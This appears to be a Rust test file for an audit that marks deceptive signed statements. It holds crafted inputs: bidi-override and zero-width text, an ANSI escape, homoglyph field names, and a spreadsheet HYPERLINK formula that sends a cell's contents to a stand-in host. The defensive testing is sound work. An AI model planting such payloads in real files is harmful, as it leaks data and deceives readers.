//! Signed statements that hide something, in bundles: a patched signer wrote them, the audit marks them, and nothing of
//! them reaches a terminal unseen.
use serde_json::{Value, json};
use verbund::audit::examine;
use verbund::audit::report::Ruling;
use verbund::domain::characters::hides;
use verbund::domain::json::shown;
use verbund::domain::reason::{Lang, Reason};

use crate::evidence::{Script, evidence};

/// What the audit says of an order that went so: it is not valid, and the finding is about this.
fn marked(what: &str, script: &Script, reason: Reason) {
    let evidence = evidence(script);
    let zip = evidence.bundle().to_zip().expect("bytes");
    let report = examine(&zip, Some(evidence.root));
    let text = report.text(Lang::De);
    assert_ne!(report.ruling(), Ruling::Valid, "{what}: {text}");
    let found = report.findings().any(|(_, finding)| finding.refusal.reason == reason);
    assert!(found && text.contains(reason.code()), "{what}: {text}");
    for printed in [text, report.text(Lang::En), shown(&report.json(Lang::De))] {
        assert!(!printed.contains(|c| hides(c) && c != '\n'), "{what}: {printed:?}");
    }
}

#[test]
fn a_title_that_hides_or_acts_is_marked() {
    for (title, reason) in [
        ("Wohngeld \u{202e}gnubegnarebeis\u{202c}, ab 0,00 €", Reason::TextHides),
        ("Wohn\u{200b}geld", Reason::TextHides),
        ("\u{1b}[31mrot", Reason::TextHides),
        ("\nabc", Reason::TextHides),
        ("=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")", Reason::TextFormula),
        ("@SUM(1+1)", Reason::TextFormula),
        ("Wohnsitzanmeldu\u{308}ng", Reason::TextMisshaped),
    ] {
        marked(title, &Script { title, ..Script::default() }, reason);
    }
}

/// What was bent, how, and what the audit must say.
type Bent = (&'static str, fn(&mut Value), Reason);

#[test]
fn a_seal_of_which_two_readers_see_two_things_is_marked() {
    let cases: [Bent; 9] = [
        ("capital", |seal| seal["Total"] = json!(1), Reason::FieldLooksAlike),
        ("Cyrillic", |seal| seal["tоtal"] = json!(1), Reason::FieldLooksAlike),
        ("digit", |seal| seal["tota1"] = json!(1), Reason::FieldLooksAlike),
        ("hidden in a field nobody knows", |seal| seal["later"] = json!("\u{202e}gut"), Reason::TextHides),
        ("offset", |seal| seal["signed_at"] = json!("2026-09-02T23:59:59+14:00"), Reason::TimeInvalid),
        ("blank for T", |seal| seal["signed_at"] = json!("2026-09-02 14:00:00Z"), Reason::TimeInvalid),
        ("leap second", |seal| seal["signed_at"] = json!("2026-09-02T13:59:60Z"), Reason::TimeInvalid),
        (
            "capital digits",
            |seal| seal["order"] = seal["order"].as_str().expect("an id").to_uppercase().into(),
            Reason::OrderIdInvalid,
        ),
        ("amount", |seal| seal["total"] = json!(i64::from(u32::MAX) * 100_000), Reason::MoneyInvalid),
    ];
    for (what, bend_seal, reason) in cases {
        marked(what, &Script { bend_seal, ..Script::default() }, reason);
    }
}

#[test]
fn a_field_of_a_later_version_changes_nothing() {
    let script = Script { bend_seal: |seal| seal["later_field"] = json!("Zeile\nZeile"), ..Script::default() };
    let evidence = evidence(&script);
    let report = examine(&evidence.bundle().to_zip().expect("bytes"), Some(evidence.root));
    assert_eq!(report.ruling(), Ruling::Valid, "{}", report.text(Lang::De));
}
